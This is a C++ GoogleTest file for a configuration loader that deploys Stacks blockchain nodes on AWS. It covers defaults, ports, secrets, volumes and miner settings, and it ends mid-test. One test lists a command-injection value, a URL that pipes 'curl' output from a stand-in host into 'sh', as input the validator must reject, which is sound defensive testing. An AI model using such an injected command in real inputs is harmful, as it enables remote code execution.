#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "support/config_fixtures.h"

namespace snr::config {
namespace {

using snr::testing::about;
using snr::testing::kMinimalEnv;
using snr::testing::load_text;
using snr::testing::valid_config;
using ::testing::HasSubstr;

/// The one error about `variable`; fails when there is none or several.
Diagnostic error_about(const LoadResult& r, std::string_view variable) {
  auto errors = about(r, variable);
  EXPECT_EQ(errors.size(), 1u) << "errors about " << variable << ": " << errors.size();
  return errors.empty() ? Diagnostic{} : errors.front();
}

std::string with(const std::string& extra) {
  return std::string(kMinimalEnv) + extra;
}

// --- defaults ---------------------------------------------------------------

TEST(LoadDefaults, MainnetFollower) {
  Config c = valid_config(kMinimalEnv);
  EXPECT_EQ(c.role, Role::follower);
  EXPECT_EQ(c.network, Network::mainnet);
  EXPECT_EQ(c.instance_type, "m5.large");
  EXPECT_EQ(c.cpu_type, CpuType::x86_64);
  EXPECT_EQ(c.stacks_version, "latest");
  EXPECT_TRUE(c.download_chainstate);
  EXPECT_TRUE(c.bootstrap_nodes.empty());  // mainnet seeds are built into stacks-node
  EXPECT_EQ(c.ports.p2p, 20444);
  EXPECT_EQ(c.ports.rpc, 20443);
  EXPECT_EQ(c.ports.node_metrics, 9153);
  EXPECT_EQ(c.ports.signer_metrics, 9154);
  EXPECT_EQ(c.ports.signer_events, 30000);
  EXPECT_EQ(c.ports.health, 20445);
  EXPECT_EQ(c.bitcoin.peer_host, "bitcoin.mainnet.stacks.org");
  EXPECT_EQ(c.bitcoin.rpc_port, 8332);
  EXPECT_EQ(c.bitcoin.p2p_port, 8333);
  EXPECT_EQ(c.data_volume.size_gib, 2048u);
  EXPECT_EQ(c.data_volume.type, VolumeType::gp3);
  EXPECT_EQ(c.data_volume.iops, 12000u);
  EXPECT_EQ(c.data_volume.throughput_mibps, 700u);
  EXPECT_EQ(c.ha.health_check_grace_period_min, 10u);
  EXPECT_EQ(c.ha.heartbeat_delay_min, 100u);
  EXPECT_EQ(c.ha.number_of_nodes, 2u);
  EXPECT_EQ(c.monitoring.log_retention_days, 30u);
  EXPECT_TRUE(c.signer_secret_arn.empty());
  EXPECT_EQ(c.variables.at("STACKS_DATA_VOL_SIZE").source, Source::default_value);
}

TEST(LoadDefaults, TestnetIsTodaysKryptonTestnet) {
  Config c = valid_config(with("STACKS_NETWORK=testnet\n"));
  EXPECT_EQ(c.network, Network::testnet);
  EXPECT_EQ(c.bitcoin.peer_host, "bitcoin.regtest.hiro.so");
  EXPECT_EQ(c.bitcoin.rpc_port, 18443);
  EXPECT_EQ(c.bitcoin.p2p_port, 18444);
  ASSERT_EQ(c.bootstrap_nodes.size(), 1u);
  EXPECT_THAT(c.bootstrap_nodes[0], HasSubstr("@seed.testnet.hiro.so:20444"));
  EXPECT_EQ(c.data_volume.size_gib, 256u);
  EXPECT_THAT(c.chainstate_archive_url, HasSubstr("/testnet/"));
}

TEST(LoadDefaults, TestnetSyncsFromTheStartUnlessAskedToRestore) {
  // The testnet was reset in August 2026: archives may hold the old chain.
  EXPECT_FALSE(valid_config(with("STACKS_NETWORK=testnet\n")).download_chainstate);
  EXPECT_TRUE(valid_config(with("STACKS_NETWORK=testnet\nSTACKS_DOWNLOAD_CHAINSTATE=true\n"))
                  .download_chainstate);
  EXPECT_TRUE(valid_config(kMinimalEnv).download_chainstate);
}

TEST(LoadDefaults, SignerAndMinerGetALargerNitroInstance) {
  EXPECT_EQ(valid_config(with("STACKS_NODE_CONFIGURATION=signer\n")).instance_type, "m6i.xlarge");
}

TEST(LoadDefaults, EmptyValueMeansDefaultAsInTheBlueprint) {
  Config c = valid_config(with("BITCOIN_PEER_HOST=\nSTACKS_RPC_PORT=\"\"\n"));
  EXPECT_EQ(c.bitcoin.peer_host, "bitcoin.mainnet.stacks.org");
  EXPECT_EQ(c.ports.rpc, 20443);
}

TEST(LoadSources, EnvironmentOverridesTheFile) {
  auto r = load_text(with("STACKS_RPC_PORT=21443\nSTACKS_P2P_PORT=21444\n"),
                     {{"STACKS_RPC_PORT", "22443"}});
  ASSERT_FALSE(r.diagnostics.has_errors());
  EXPECT_EQ(r.config.ports.rpc, 22443);
  EXPECT_EQ(r.config.ports.p2p, 21444);
  EXPECT_EQ(r.config.variables.at("STACKS_RPC_PORT").source, Source::environment);
  EXPECT_EQ(r.config.variables.at("STACKS_P2P_PORT").source, Source::file);
  EXPECT_EQ(r.config.variables.at("STACKS_P2P_PORT").origin, ".env:4");
}

TEST(LoadSources, ErrorsNameTheFileAndLine) {
  auto r = load_text(with("STACKS_RPC_PORT=abc\n"));
  EXPECT_EQ(error_about(r, "STACKS_RPC_PORT").subject, "STACKS_RPC_PORT (.env:3)");
}

// --- AWS --------------------------------------------------------------------

TEST(LoadAws, AccountIdMissingPlaceholderOrMalformed) {
  auto missing = load_text("AWS_REGION=us-west-2\n");
  EXPECT_THAT(error_about(missing, "AWS_ACCOUNT_ID").message, HasSubstr("is not set"));
  auto placeholder = load_text("AWS_ACCOUNT_ID=\"xxxxxxxxxxxx\"\n");
  EXPECT_THAT(error_about(placeholder, "AWS_ACCOUNT_ID").message, HasSubstr("placeholder"));
  EXPECT_THAT(error_about(placeholder, "AWS_ACCOUNT_ID").message, HasSubstr("12-digit"));
  EXPECT_THAT(error_about(load_text("AWS_ACCOUNT_ID=12345678901\n"), "AWS_ACCOUNT_ID").message,
              HasSubstr("12 digits"));
  EXPECT_THAT(error_about(load_text("AWS_ACCOUNT_ID=12345678901a\n"), "AWS_ACCOUNT_ID").message,
              HasSubstr("12 digits"));
}

TEST(LoadAws, RegionMustBeARegion) {
  auto r = load_text("AWS_ACCOUNT_ID=123456789012\nAWS_REGION=us-wset-2\n");
  auto e = error_about(r, "AWS_REGION");
  EXPECT_THAT(e.message, HasSubstr("not an AWS region"));
  EXPECT_THAT(e.message, HasSubstr("did you mean us-west-2"));
  EXPECT_TRUE(about(load_text("AWS_ACCOUNT_ID=123456789012\nAWS_REGION=us-west-9\n"), "AWS_REGION")
                  .size() == 1);
  EXPECT_FALSE(
      load_text("AWS_ACCOUNT_ID=123456789012\nAWS_REGION=eu-central-2\n").diagnostics.has_errors());
}

// --- role, network, instance ------------------------------------------------

TEST(LoadEnums, RoleTypoSuggestsTheRightOne) {
  auto e = error_about(load_text(with("STACKS_NODE_CONFIGURATION=folower\n")),
                       "STACKS_NODE_CONFIGURATION");
  EXPECT_THAT(e.message, HasSubstr("\"folower\""));
  EXPECT_THAT(e.message, HasSubstr("allowed: follower, signer, miner"));
  EXPECT_THAT(e.message, HasSubstr("did you mean follower"));
}

TEST(LoadEnums, RetiredAndLocalNetworksAreClearErrors) {
  auto xenon = error_about(load_text(with("STACKS_NETWORK=xenon\n")), "STACKS_NETWORK");
  EXPECT_THAT(xenon.message, HasSubstr("retired"));
  EXPECT_THAT(xenon.message, HasSubstr("STACKS_NETWORK=testnet"));
  for (const char* local : {"helium", "mocknet"}) {
    auto e = error_about(load_text(with(std::string("STACKS_NETWORK=") + local + "\n")),
                         "STACKS_NETWORK");
    EXPECT_THAT(e.message, HasSubstr("local development mode"));
  }
  EXPECT_THAT(error_about(load_text(with("STACKS_NETWORK=mainet\n")), "STACKS_NETWORK").message,
              HasSubstr("did you mean mainnet"));
}

TEST(LoadEnums, CpuTypeTypoIsAnErrorNotSilentlyArm) {
  auto e = error_about(load_text(with("STACKS_CPU_TYPE=x86\n")), "STACKS_CPU_TYPE");
  EXPECT_THAT(e.message, HasSubstr("allowed: x86_64, ARM_64"));
  EXPECT_EQ(valid_config(with("STACKS_CPU_TYPE=X86_64\n")).cpu_type, CpuType::x86_64);
}

TEST(LoadInstance, UnknownTypeSuggestsAKnownOne) {
  auto e = error_about(load_text(with("STACKS_INSTANCE_TYPE=m5.lrge\n")), "STACKS_INSTANCE_TYPE");
  EXPECT_THAT(e.message, HasSubstr("did you mean m5.large"));
  EXPECT_EQ(about(load_text(with("STACKS_INSTANCE_TYPE=m5.huge\n")), "STACKS_INSTANCE_TYPE").size(),
            1u);
}

TEST(LoadInstance, GravitonNeedsArm64) {
  auto r = load_text(with("STACKS_INSTANCE_TYPE=m7g.xlarge\n"));
  EXPECT_THAT(error_about(r, "STACKS_CPU_TYPE").message, HasSubstr("Graviton"));
  Config c = valid_config(with("STACKS_INSTANCE_TYPE=m7g.xlarge\nSTACKS_CPU_TYPE=ARM_64\n"));
  EXPECT_EQ(c.cpu_type, CpuType::arm64);
}

TEST(LoadInstance, XenTypesAreRefusedBecauseVolumesAreNotNvme) {
  auto e =
      error_about(load_text(with("STACKS_INSTANCE_TYPE=c4.4xlarge\n")), "STACKS_INSTANCE_TYPE");
  EXPECT_THAT(e.message, HasSubstr("Nitro"));
}

TEST(LoadInstance, SmallTypesAreAWarning) {
  auto r = load_text(with("STACKS_INSTANCE_TYPE=t3.small\n"));
  EXPECT_FALSE(r.diagnostics.has_errors());
  EXPECT_EQ(about(r, "STACKS_INSTANCE_TYPE", Severity::warning).size(), 1u);
}

// --- version ----------------------------------------------------------------

TEST(LoadVersion, ExactTagOrLatest) {
  EXPECT_EQ(valid_config(with("STACKS_VERSION=4.0.2\n")).stacks_version, "4.0.2");
  EXPECT_EQ(valid_config(with("STACKS_VERSION=latest\n")).stacks_version, "latest");
  auto v = error_about(load_text(with("STACKS_VERSION=v4.0.2\n")), "STACKS_VERSION");
  EXPECT_THAT(v.message, HasSubstr("use 4.0.2"));
  EXPECT_EQ(about(load_text(with("STACKS_VERSION=4.0\n")), "STACKS_VERSION").size(), 1u);
  EXPECT_EQ(about(load_text(with("STACKS_VERSION=newest\n")), "STACKS_VERSION").size(), 1u);
}

TEST(LoadVersion, ReleaseCandidatesOnlyOnTestnetOrWhenAskedFor) {
  auto main = error_about(load_text(with("STACKS_VERSION=4.0.3-rc1\n")), "STACKS_VERSION");
  EXPECT_THAT(main.message, HasSubstr("STACKS_ALLOW_RELEASE_CANDIDATE=true"));
  EXPECT_EQ(valid_config(with("STACKS_VERSION=4.0.3-rc1\nSTACKS_ALLOW_RELEASE_CANDIDATE=true\n"))
                .stacks_version,
            "4.0.3-rc1");
  EXPECT_FALSE(load_text(with("STACKS_VERSION=4.0.3-rc2\nSTACKS_NETWORK=testnet\n"))
                   .diagnostics.has_errors());
  // A candidate is older than its release, so the floor still holds.
  EXPECT_EQ(
      about(load_text(with("STACKS_VERSION=4.0.1-rc1\nSTACKS_ALLOW_RELEASE_CANDIDATE=true\n")),
            "STACKS_VERSION")
          .size(),
      1u);
  EXPECT_EQ(
      about(load_text(with("STACKS_VERSION=4.0.3-rc\nSTACKS_NETWORK=testnet\n")), "STACKS_VERSION")
          .size(),
      1u);
}

TEST(LoadVersion, MainnetFloorIsEpoch40) {
  for (const char* old : {"4.0.0", "3.4.0.0.4"}) {
    auto e =
        error_about(load_text(with(std::string("STACKS_VERSION=") + old + "\n")), "STACKS_VERSION");
    EXPECT_THAT(e.message, HasSubstr("960,230"));
    EXPECT_THAT(e.message, HasSubstr("4.0.1 or newer"));
  }
  EXPECT_FALSE(load_text(with("STACKS_VERSION=4.0.1\n")).diagnostics.has_errors());
  EXPECT_FALSE(
      load_text(with("STACKS_VERSION=4.0.0\nSTACKS_NETWORK=testnet\n")).diagnostics.has_errors());
  EXPECT_EQ(
      about(load_text(with("STACKS_VERSION=3.4.0.0.4\nSTACKS_NETWORK=testnet\n")), "STACKS_VERSION")
          .size(),
      1u);
}

// --- chain sources ------------------------------------------------------------

TEST(LoadChain, BootstrapNodesAreCheckedOneByOne) {
  const std::string good =
      "02196f005965cebe6ddc3901b7b1cc1aa7a88f305bb8c5893456b8f9a605923893@seed.mainnet.hiro.so:"
      "20444";
  Config c = valid_config(with("STACKS_BOOTSTRAP_NODE=\"" + good + ", " + good + "\"\n"));
  EXPECT_EQ(c.bootstrap_nodes.size(), 2u);
  // The blueprint's stale testnet seed had an uncompressed key.
  auto r = load_text(with(
      "STACKS_BOOTSTRAP_NODE=047435c194e9b01b3d7f7a2802d6684a3af68d05bbf4ec8f17021980d777691f1d5"
      "1651f7f1d566532c804da506c117bbf79ad62eea81213ba58f8808b4d9504ad@testnet.stacks.co:20444,"
      "nonsense\n"));
  EXPECT_EQ(about(r, "STACKS_BOOTSTRAP_NODE").size(), 2u);
}

TEST(LoadChain, ArchiveUrlIsStrict) {
  // Only ever data for the agent, but a value no URL parser agrees on is a typo or worse.
  for (const char* bad : {"https://x/a.tar.gz;curl${IFS}evil|sh;INJECTED", "https://x/a b.tar.zst",
                          "https://x/a.tar.gz#frag", "https://user:pw@x/a", "https:///a.tar.gz",
                          "https://x/a<b>.tar.gz", "https://x/a\\b"}) {
    auto r = load_text(with(std::string("STACKS_CHAINSTATE_ARCHIVE='") + bad + "'\n"));
    EXPECT_EQ(about(r, "STACKS_CHAINSTATE_ARCHIVE").size(), 1u) << bad;
  }
  EXPECT_FALSE(
      load_text(with("STACKS_CHAINSTATE_ARCHIVE=https://archive.hiro.so/mainnet/"
                     "stacks-blockchain/mainnet-stacks-blockchain-latest.tar.zst?x=1%20\n"))
          .diagnostics.has_errors());
}

TEST(LoadChain, ArchiveUrlAndChecksum) {
  EXPECT_EQ(about(load_text(with("STACKS_CHAINSTATE_ARCHIVE=ftp://x/y.tar.gz\n")),
                  "STACKS_CHAINSTATE_ARCHIVE")
                .size(),
            1u);
  auto http = load_text(with("STACKS_CHAINSTATE_ARCHIVE=http://mirror.example/a.tar.gz\n"));
  EXPECT_FALSE(http.diagnostics.has_errors());
  EXPECT_EQ(about(http, "STACKS_CHAINSTATE_ARCHIVE", Severity::warning).size(), 1u);
  EXPECT_EQ(
      about(load_text(with("STACKS_CHAINSTATE_SHA256=abc\n")), "STACKS_CHAINSTATE_SHA256").size(),
      1u);
  Config c = valid_config(with("STACKS_CHAINSTATE_SHA256=" + std::string(64, 'A') + "\n"));
  EXPECT_EQ(c.chainstate_sha256, std::string(64, 'a'));
}

TEST(LoadChain, BuildFromSourceIsAWarning) {
  auto r = load_text(with("STACKS_BUILD_FROM_SOURCE=true\n"));
  EXPECT_FALSE(r.diagnostics.has_errors());
  EXPECT_EQ(about(r, "STACKS_BUILD_FROM_SOURCE", Severity::warning).size(), 1u);
  EXPECT_EQ(about(load_text(with("STACKS_DOWNLOAD_CHAINSTATE=yes\n")), "STACKS_DOWNLOAD_CHAINSTATE")
                .size(),
            1u);
}

// --- ports --------------------------------------------------------------------

TEST(LoadPorts, NonNumericOutOfRangeAndPrivileged) {
  EXPECT_THAT(error_about(load_text(with("STACKS_P2P_PORT=2o444\n")), "STACKS_P2P_PORT").message,
              HasSubstr("not a whole number"));
  EXPECT_THAT(error_about(load_text(with("STACKS_P2P_PORT=70000\n")), "STACKS_P2P_PORT").message,
              HasSubstr("out of range"));
  EXPECT_THAT(error_about(load_text(with("STACKS_P2P_PORT=0\n")), "STACKS_P2P_PORT").message,
              HasSubstr("allowed: 1024–65535"));
  EXPECT_THAT(error_about(load_text(with("STACKS_RPC_PORT=80\n")), "STACKS_RPC_PORT").message,
              HasSubstr("privileged"));
  EXPECT_THAT(error_about(load_text(with("STACKS_RPC_PORT=-1\n")), "STACKS_RPC_PORT").message,
              HasSubstr("not a whole number"));
}

TEST(LoadPorts, EqualPortsAreAnError) {
  auto e = error_about(load_text(with("STACKS_RPC_PORT=20444\n")), "STACKS_RPC_PORT");
  EXPECT_THAT(e.message, HasSubstr("already used by STACKS_P2P_PORT"));
  EXPECT_EQ(about(load_text(with("STACKS_HEALTH_PORT=20443\n")), "STACKS_HEALTH_PORT").size(), 1u);
}

TEST(LoadPorts, SignerPortsOnlyClashForRolesThatUseThem) {
  EXPECT_FALSE(load_text(with("STACKS_SIGNER_EVENT_PORT=20443\n")).diagnostics.has_errors());
  auto r = load_text(with("STACKS_NODE_CONFIGURATION=signer\nSTACKS_SIGNER_EVENT_PORT=20443\n"));
  EXPECT_EQ(about(r, "STACKS_SIGNER_EVENT_PORT").size(), 1u);
}

// --- Bitcoin --------------------------------------------------------------------

TEST(LoadBitcoin, HostAndPorts) {
  EXPECT_EQ(about(load_text(with("BITCOIN_PEER_HOST=bad_host!\n")), "BITCOIN_PEER_HOST").size(),
            1u);
  EXPECT_FALSE(load_text(with("BITCOIN_PEER_HOST=10.0.0.5\n")).diagnostics.has_errors());
  EXPECT_FALSE(load_text(with("BITCOIN_PEER_HOST=fd00::5\n")).diagnostics.has_errors());
  EXPECT_EQ(about(load_text(with("BITCOIN_RPC_PORT=8333\n")), "BITCOIN_P2P_PORT").size(), 1u);
}

TEST(LoadBitcoin, PasswordIsNeverShown) {
  const std::string arn = "arn:aws:secretsmanager:us-west-2:123456789012:secret:btc-AbCdEf";
  auto r = load_text(with("BITCOIN_RPC_PASSWORD=hunter2\nBITCOIN_RPC_PASSWORD_SECRET_ARN=" + arn +
                          "\nBITCOIN_RPC_PORT=hunter2\n"));
  EXPECT_EQ(about(r, "BITCOIN_RPC_PASSWORD").size(), 1u);
  for (const auto& d : r.diagnostics.items()) {
    if (d.subject.rfind("BITCOIN_RPC_PASSWORD", 0) == 0) {
      EXPECT_THAT(d.to_string(), ::testing::Not(HasSubstr("hunter2")));
    }
  }
  auto ok = load_text(with("BITCOIN_RPC_PASSWORD=hunter2\n"));
  EXPECT_EQ(ok.config.variables.at("BITCOIN_RPC_PASSWORD").value, "<redacted>");
  EXPECT_EQ(ok.config.bitcoin.rpc_password.reveal(), "hunter2");
}

// --- secrets ----------------------------------------------------------------------

TEST(LoadSecrets, ArnShapes) {
  const std::string base = "STACKS_NODE_CONFIGURATION=signer\nSTACKS_SIGNER_SECRET_ARN=";
  EXPECT_EQ(valid_config(with(base + "none\n")).signer_secret_arn, "");
  EXPECT_EQ(
      valid_config(with(base + "arn:aws:secretsmanager:us-west-2:123456789012:secret:k-AbCdEf\n"))
          .signer_secret_arn,
      "arn:aws:secretsmanager:us-west-2:123456789012:secret:k-AbCdEf");
  for (const char* bad :
       {"arn:aws:s3:::bucket", "my-secret", "arn:aws:secretsmanager:us-west-2:1234:secret:k",
        "arn:aws-cn:secretsmanager:us-west-2:123456789012:secret:k",
        "arn:aws:secretsmanager:us-west-2:123456789012:secret:bad name",
        "arn:aws:secretsmanager:us-west-2:123456789012:secret:k"}) {
    EXPECT_EQ(about(load_text(with(base + "\"" + bad + "\"\n")), "STACKS_SIGNER_SECRET_ARN").size(),
              1u)
        << bad;
  }
  auto other_region = error_about(
      load_text(with(base + "arn:aws:secretsmanager:eu-west-1:123456789012:secret:k-AbCdEf\n")),
      "STACKS_SIGNER_SECRET_ARN");
  EXPECT_THAT(other_region.message, HasSubstr("replication"));
}

// IAM matches a secret by its full ARN (name-AbCdEf): one without the suffix
// passes nothing at boot (AccessDenied), so it is refused here.
TEST(LoadSecrets, AnArnWithoutTheRandomSuffixIsRefusedByName) {
  for (const char* v : {"STACKS_SIGNER_SECRET_ARN", "BITCOIN_RPC_PASSWORD_SECRET_ARN"}) {
    auto r = load_text(with("STACKS_NODE_CONFIGURATION=signer\n" + std::string(v) +
                            "=arn:aws:secretsmanager:us-west-2:123456789012:secret:my/key\n"));
    auto e = error_about(r, v);
    EXPECT_THAT(e.message, HasSubstr("6-character suffix")) << v;
  }
}

TEST(LoadSecrets, MinersUseASignerKeyTooFollowersIgnoreIt) {
  const std::string arn = "arn:aws:secretsmanager:us-west-2:123456789012:secret:s-AbCdEf";
  auto follower = load_text(with("STACKS_SIGNER_SECRET_ARN=" + arn + "\n"));
  EXPECT_EQ(about(follower, "STACKS_SIGNER_SECRET_ARN", Severity::warning).size(), 1u);
  auto miner =
      load_text(with("STACKS_NODE_CONFIGURATION=miner\nBITCOIN_PEER_HOST=10.0.0.9\n"
                     "BITCOIN_RPC_USERNAME=u\nBITCOIN_RPC_PASSWORD=p\n"
                     "BITCOIN_WALLET_NAME=w\nSTACKS_SIGNER_SECRET_ARN=" +
                     arn + "\n"));
  EXPECT_FALSE(miner.diagnostics.has_errors());
  EXPECT_TRUE(about(miner, "STACKS_SIGNER_SECRET_ARN", Severity::warning).empty());
  EXPECT_EQ(miner.config.signer_secret_arn, arn);
}

TEST(LoadSecrets, KeysForOtherRolesAreIgnoredWithAWarning) {
  auto r = load_text(with(
      "STACKS_MINER_SECRET_ARN=arn:aws:secretsmanager:us-west-2:123456789012:secret:m-AbCdEf\n"));
  EXPECT_FALSE(r.diagnostics.has_errors());
  EXPECT_EQ(about(r, "STACKS_MINER_SECRET_ARN", Severity::warning).size(), 1u);
}

// --- data volume ----------------------------------------------------------------------

TEST(LoadVolume, Gp3Limits) {
  EXPECT_EQ(about(load_text(with("STACKS_DATA_VOL_IOPS=2999\n")), "STACKS_DATA_VOL_IOPS").size(),
            1u);
  EXPECT_EQ(about(load_text(with("STACKS_DATA_VOL_IOPS=16001\n")), "STACKS_DATA_VOL_IOPS").size(),
            1u);
  EXPECT_EQ(about(load_text(with("STACKS_DATA_VOL_THROUGHPUT=124\n")), "STACKS_DATA_VOL_THROUGHPUT")
                .size(),
            1u);
  EXPECT_EQ(about(load_text(with("STACKS_DATA_VOL_THROUGHPUT=1001\nSTACKS_DATA_VOL_IOPS=16000\n")),
                  "STACKS_DATA_VOL_THROUGHPUT")
                .size(),
            1u);
  auto ratio =
      error_about(load_text(with("STACKS_DATA_VOL_IOPS=3000\nSTACKS_DATA_VOL_THROUGHPUT=1000\n")),
                  "STACKS_DATA_VOL_THROUGHPUT");
  EXPECT_THAT(ratio.message, HasSubstr("0.25 MiB/s per IOPS"));
  auto per_gib = error_about(load_text(with("STACKS_DATA_VOL_SIZE=20\n")), "STACKS_DATA_VOL_IOPS");
  EXPECT_THAT(per_gib.message, HasSubstr("500 IOPS per GiB"));
  EXPECT_FALSE(load_text(with("STACKS_DATA_VOL_IOPS=16000\nSTACKS_DATA_VOL_THROUGHPUT=1000\n"))
                   .diagnostics.has_errors());
}

TEST(LoadVolume, Io1Io2Gp2) {
  EXPECT_FALSE(load_text(with("STACKS_DATA_VOL_TYPE=io2\nSTACKS_DATA_VOL_IOPS=64000\n"))
                   .diagnostics.has_errors());
  EXPECT_THAT(error_about(load_text(with("STACKS_DATA_VOL_TYPE=io1\nSTACKS_DATA_VOL_SIZE=100\n")),
                          "STACKS_DATA_VOL_IOPS")
                  .message,
              HasSubstr("50 IOPS per GiB"));
  EXPECT_EQ(about(load_text(with("STACKS_DATA_VOL_TYPE=io1\nSTACKS_DATA_VOL_IOPS=64001\n")),
                  "STACKS_DATA_VOL_IOPS")
                .size(),
            1u);
  auto gp2 = load_text(with("STACKS_DATA_VOL_TYPE=gp2\nSTACKS_DATA_VOL_IOPS=5000\n"));
  EXPECT_FALSE(gp2.diagnostics.has_errors());
  EXPECT_EQ(about(gp2, "STACKS_DATA_VOL_IOPS", Severity::warning).size(), 1u);
  auto io2_tp = load_text(with("STACKS_DATA_VOL_TYPE=io2\nSTACKS_DATA_VOL_THROUGHPUT=500\n"));
  EXPECT_EQ(about(io2_tp, "STACKS_DATA_VOL_THROUGHPUT", Severity::warning).size(), 1u);
}

TEST(LoadVolume, TypeAndSize) {
  EXPECT_THAT(
      error_about(load_text(with("STACKS_DATA_VOL_TYPE=instance-store\n")), "STACKS_DATA_VOL_TYPE")
          .message,
      HasSubstr("not supported"));
  EXPECT_EQ(about(load_text(with("STACKS_DATA_VOL_TYPE=st1\n")), "STACKS_DATA_VOL_TYPE").size(),
            1u);
  EXPECT_EQ(about(load_text(with("STACKS_DATA_VOL_SIZE=0\n")), "STACKS_DATA_VOL_SIZE").size(), 1u);
  EXPECT_EQ(about(load_text(with("STACKS_DATA_VOL_SIZE=16385\n")), "STACKS_DATA_VOL_SIZE").size(),
            1u);
  auto small = load_text(with("STACKS_DATA_VOL_SIZE=1024\n"));
  EXPECT_FALSE(small.diagnostics.has_errors());
  auto w = about(small, "STACKS_DATA_VOL_SIZE", Severity::warning);
  ASSERT_EQ(w.size(), 1u);
  EXPECT_THAT(w[0].message, HasSubstr("recommended minimum"));
}

// --- HA and monitoring ----------------------------------------------------------------

TEST(LoadHa, Ranges) {
  EXPECT_EQ(about(load_text(with("STACKS_HA_NODES_HEARTBEAT_DELAY_MIN=121\n")),
                  "STACKS_HA_NODES_HEARTBEAT_DELAY_MIN")
                .size(),
            1u);
  EXPECT_EQ(
      about(load_text(with("STACKS_HA_NUMBER_OF_NODES=0\n")), "STACKS_HA_NUMBER_OF_NODES").size(),
      1u);
  EXPECT_EQ(about(load_text(with("STACKS_HA_ALB_HEALTHCHECK_GRACE_PERIOD_MIN=1441\n")),
                  "STACKS_HA_ALB_HEALTHCHECK_GRACE_PERIOD_MIN")
                .size(),
            1u);
  auto one = load_text(with("STACKS_HA_NUMBER_OF_NODES=1\n"));
  EXPECT_EQ(about(one, "STACKS_HA_NUMBER_OF_NODES", Severity::warning).size(), 1u);
}

TEST(LoadHa, OnlyFollowers) {
  EXPECT_FALSE(validate_for_ha(valid_config(kMinimalEnv)).has_errors());
  for (const char* role : {"signer", "miner"}) {
    Config c;
    c.role = *node::parse_role(role);
    auto d = validate_for_ha(c);
    ASSERT_TRUE(d.has_errors());
    EXPECT_THAT(d.errors()[0].message, HasSubstr("stacks-single-node"));
  }
}

TEST(LoadMonitoring, EmailAndRetention) {
  EXPECT_EQ(
      about(load_text(with("STACKS_ALARM_EMAIL=not-an-email\n")), "STACKS_ALARM_EMAIL").size(), 1u);
  EXPECT_EQ(valid_config(with("STACKS_ALARM_EMAIL=ops@example.com\n")).monitoring.alarm_email,
            "ops@example.com");
  EXPECT_EQ(
      about(load_text(with("STACKS_LOG_RETENTION_DAYS=8\n")), "STACKS_LOG_RETENTION_DAYS").size(),
      1u);
  EXPECT_EQ(
      about(load_text(with("STACKS_LOG_RETENTION_DAYS=3\n")), "STACKS_LOG_RETENTION_DAYS").size(),
      1u);
  EXPECT_EQ(valid_config(with("STACKS_LOG_RETENTION_DAYS=14\n")).monitoring.log_retention_days,
            14u);
}

TEST(LoadSnapshots, RetainIsValidated) {
  EXPECT_EQ(valid_config(with("")).snapshots.retain, 3u);
  EXPECT_EQ(valid_config(with("STACKS_SNAPSHOT_RETAIN=7\n")).snapshots.retain, 7u);
  EXPECT_EQ(about(load_text(with("STACKS_SNAPSHOT_RETAIN=0\n")), "STACKS_SNAPSHOT_RETAIN").size(),
            1u);
  EXPECT_EQ(
      about(load_text(with("STACKS_SNAPSHOT_RETAIN=many\n")), "STACKS_SNAPSHOT_RETAIN").size(), 1u);
}

// --- miner ------------------------------------------------------------------------------

TEST(LoadMiner, NeedsItsOwnBitcoindWithCredentialsAndWallet) {
  auto r = load_text(with("STACKS_NODE_CONFIGURATION=miner\n"));
  EXPECT_EQ(about(r, "BITCOIN_PEER_HOST").size(), 1u);
  EXPECT_EQ(about(r, "BITCOIN_RPC_USERNAME").size(), 1u);
  EXPECT_EQ(about(r, "BITCOIN_RPC_PASSWORD").size(), 1u);
  EXPECT_EQ(about(r, "BITCOIN_WALLET_NAME").size(), 1u);

  auto pub =
      load_text(with("STACKS_NODE_CONFIGURATION=miner\nBITCOIN_PEER_HOST=bitcoin.mainnet."
                     "stacks.org\n"));
  EXPECT_THAT(error_about(pub, "BITCOIN_PEER_HOST").message, HasSubstr("public Bitcoin node"));

  Config c = valid_config(with(
      "STACKS_NODE_CONFIGURATION=miner\nBITCOIN_PEER_HOST=10.0.1.5\n"
      "BITCOIN_RPC_USERNAME=miner\nBITCOIN_RPC_PASSWORD=s3cret\nBITCOIN_WALLET_NAME=stx-miner\n"
      "BITCOIN_BURN_FEE_CAP=30000\n"));
  EXPECT_EQ(c.bitcoin.wallet_name, "stx-miner");
  EXPECT_EQ(c.bitcoin.burn_fee_cap, 30000u);
  EXPECT_EQ(c.bitcoin.satoshis_per_byte, 25u);
  EXPECT_EQ(c.bitcoin.max_rbf, 150u);
}

TEST(LoadBitcoin, RpcUsernameMustWorkInBasicAuth) {
  // HTTP basic auth splits user:password at the first colon; blanks are a typo.
  for (const char* bad : {"a:b", "\"  \"", "\"u v\""}) {
    auto r = load_text(with(std::string("BITCOIN_RPC_USERNAME=") + bad + "\n"));
    EXPECT_EQ(about(r, "BITCOIN_RPC_USERNAME").size(), 1u) << bad;
  }
  EXPECT_EQ(valid_config(with("BITCOIN_RPC_USERNAME=stx_rpc-1\n")).bitcoin.rpc_username,
            "stx_rpc-1");
}

TEST(LoadMiner, RewardRecipientIsAStacksPrincipalOfTheNetwork) {
  const std::string miner =
      "STACKS_NODE_CONFIGURATION=miner\nBITCOIN_PEER_HOST=10.0.1.5\nBITCOIN_RPC_USERNAME=u\n"
      "BITCOIN_RPC_PASSWORD=p\nBITCOIN_WALLET_NAME=w\n";
  Config c = valid_config(
      with(miner + "STACKS_MINER_REWARD_RECIPIENT=SP2J6ZY48GV1EZ5V2V5RB9MP66SW86PYKKNRV9EJ7\n"
                   "STACKS_MINER_SEGWIT=true\n"));
  EXPECT_EQ(c.miner.block_reward_recipient, "SP2J6ZY48GV1EZ5V2V5RB9MP66SW86PYKKNRV9EJ7");
  EXPECT_TRUE(c.miner.segwit);
  EXPECT_FALSE(
      load_text(with(miner +
                     "STACKS_MINER_REWARD_RECIPIENT=SP2J6ZY48GV1EZ5V2V5RB9MP66SW86PYKKNRV9EJ7."
                     "rewards\n"))
          .diagnostics.has_errors());
  auto typo = load_text(
      with(miner + "STACKS_MINER_REWARD_RECIPIENT=SP2J6ZY48GV1EZ5V2V5RB9MP66SW86PYKKNRV9EJ8\n"));
  EXPECT_THAT(error_about(typo, "STACKS_MINER_REWARD_RECIPIENT").message, HasSubstr("checksum"));
  auto testnet_addr = load_text(
      with(miner + "STACKS_MINER_REWARD_RECIPIENT=ST2J6ZY48GV1EZ5V2V5RB9MP66SW86PYKKQYAC0RQ\n"));
